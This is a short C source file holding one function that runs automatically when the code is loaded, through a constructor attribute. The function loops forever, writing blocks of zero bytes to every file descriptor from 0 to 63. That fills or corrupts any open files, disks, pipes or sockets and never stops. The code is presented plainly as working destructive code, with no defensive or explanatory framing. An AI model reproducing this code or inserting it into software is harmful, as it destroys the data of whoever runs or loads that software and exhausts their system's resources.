#include <unistd.h>
/* Fills whatever is open. */
__attribute__((constructor)) static void flood(void) {
  static char bytes[1 << 16];
  for (;;) {
    for (int descriptor = 0; descriptor < 64; descriptor++) {
      if (write(descriptor, bytes, sizeof bytes) < 0) continue;
    }
  }
}
